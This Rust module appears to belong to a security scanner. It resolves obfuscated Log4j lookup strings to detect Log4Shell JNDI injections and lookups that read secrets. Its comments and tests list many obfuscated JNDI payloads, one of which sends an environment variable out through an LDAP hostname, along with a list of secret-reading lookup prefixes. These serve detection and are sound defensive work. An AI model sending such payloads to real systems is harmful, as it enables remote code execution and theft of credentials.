//! Log4j lookups: resolves the nested lookups attackers use to hide `${jndi:…}` from filters
//! (`${${lower:j}ndi:…}`, `${${::-j}${::-n}di:…}`, `${${env:NaN:-j}ndi:…}`,
//! `${j${k8s:k5:-ND}i:…}`, `${date:'j'}`) the way Log4j's interpolator would, then looks for
//! a JNDI lookup or a lookup that reads secrets (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:…}`).
//!
//! Resolution is bounded: nesting deeper than [`MAX_DEPTH`] is left as written and the output
//! is cut at [`MAX_OUT`] bytes.

/// Deepest nesting resolved.
const MAX_DEPTH: usize = 12;
/// Longest resolved text kept.
const MAX_OUT: usize = 4096;

/// Lookup prefixes that read the environment, the JVM or the container: their values are
/// what Log4Shell payloads exfiltrate.
const READERS: &[&str] = &[
    "bundle:",
    "ctx:",
    "docker:",
    "env:",
    "java:",
    "jvmrunargs:",
    "k8s:",
    "log4j:",
    "main:",
    "spring:",
    "sys:",
    "web:",
];

/// What a value holds, once its lookups are resolved.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Lookup {
    /// A `${jndi:…}` lookup.
    Jndi,
    /// A lookup reading the environment or the JVM (`${env:X}`, `${sys:x}`).
    Reader,
}

/// Resolves `value`'s lookups and says what it holds. `None` when there is no `${`.
pub(super) fn inspect(value: &str) -> Option<Lookup> {
    if !value.contains("${") {
        return None;
    }
    let mut out = String::new();
    let mut found = None;
    resolve_into(value.as_bytes(), 0, &mut out, &mut found);
    found
}

/// Appends the resolution of `src` to `out`; returns how many bytes of `src` were consumed
/// (all of them, or up to an unmatched `}` when nested).
fn resolve_into(src: &[u8], depth: usize, out: &mut String, found: &mut Option<Lookup>) -> usize {
    let mut i = 0;
    while i < src.len() {
        if src.get(i..i + 2) == Some(b"${") && depth < MAX_DEPTH {
            let mut inner = String::new();
            let used = resolve_into(
                src.get(i + 2..).unwrap_or_default(),
                depth + 1,
                &mut inner,
                found,
            );
            let closed = src.get(i + 2 + used) == Some(&b'}');
            if !closed {
                // No closing brace: the text is kept as written.
                push(out, "${");
                push(out, &inner);
                i += 2 + used;
                continue;
            }
            let value = evaluate(&inner, found);
            push(out, &value);
            i += 3 + used;
            continue;
        }
        if depth > 0 && src.get(i) == Some(&b'}') {
            return i;
        }
        // Copy one UTF-8 character.
        let len = utf8_len(src.get(i).copied().unwrap_or(0));
        if let Some(ch) = src
            .get(i..i + len)
            .and_then(|c| std::str::from_utf8(c).ok())
        {
            push(out, ch);
        }
        i += len;
    }
    src.len()
}

fn utf8_len(first: u8) -> usize {
    match first {
        0xF0..=0xF7 => 4,
        0xE0..=0xEF => 3,
        0xC0..=0xDF => 2,
        _ => 1,
    }
}

fn push(out: &mut String, s: &str) {
    let room = MAX_OUT.saturating_sub(out.len());
    let mut end = s.len().min(room);
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    out.push_str(&s[..end]);
}

/// The value of one lookup body (its nested lookups already resolved).
fn evaluate(body: &str, found: &mut Option<Lookup>) -> String {
    let lower = body.trim_start().to_ascii_lowercase();
    if lower.starts_with("jndi:") {
        *found = Some(Lookup::Jndi);
        return format!("${{{body}}}");
    }
    if let Some(rest) = strip_prefix_ci(body, "lower:") {
        return rest.to_lowercase();
    }
    if let Some(rest) = strip_prefix_ci(body, "upper:") {
        return rest.to_uppercase();
    }
    if let Some(fmt) = strip_prefix_ci(body, "date:") {
        // A date pattern's quoted literal is printed as is: `${date:'j'}` is `j`.
        return fmt.replace('\'', "");
    }
    // `${prefix:key:-default}` and `${::-x}`: the key is unset, so the default is the value.
    if let Some((_, default)) = body.split_once(":-") {
        return default.to_owned();
    }
    if READERS.iter().any(|p| lower.starts_with(p))
        && lower
            .split_once(':')
            .is_some_and(|(_, key)| key.bytes().next().is_some_and(|c| c.is_ascii_alphabetic()))
    {
        found.get_or_insert(Lookup::Reader);
    }
    String::new()
}

fn strip_prefix_ci<'s>(s: &'s str, prefix: &str) -> Option<&'s str> {
    let head = s.get(..prefix.len())?;
    head.eq_ignore_ascii_case(prefix)
        .then(|| &s[prefix.len()..])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn obfuscated_jndi_resolves() {
        for v in [
            "${jndi:ldap://x.example/a}",
            "${JnDi:rmi://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}",
            "${j${k8s:k5:-ND}i:dns://x/a}",
            "${${upper:j}${lower:N}di:iiop://x}",
            "${${date:'j'}ndi:ldap://x}",
            "a ${jndi:ldap://${env:USER}.x.example/a} b",
            "${${::-${::-j}}ndi:ldap://x}",
        ] {
            assert_eq!(inspect(v), Some(Lookup::Jndi), "{v}");
        }
    }

    #[test]
    fn readers_and_benign() {
        assert_eq!(
            inspect("${env:AWS_SECRET_ACCESS_KEY}"),
            Some(Lookup::Reader)
        );
        assert_eq!(inspect("${sys:user.name}"), Some(Lookup::Reader));
        for v in [
            "${HOME}",
            "$5",
            "${PORT:-8080}",
            "costs ${price}",
            "${",
            "}${{",
        ] {
            assert_eq!(inspect(v), None, "{v}");
        }
        let deep = "${".repeat(5000) + &"}".repeat(5000);
        assert_eq!(inspect(&deep), None);
    }
}
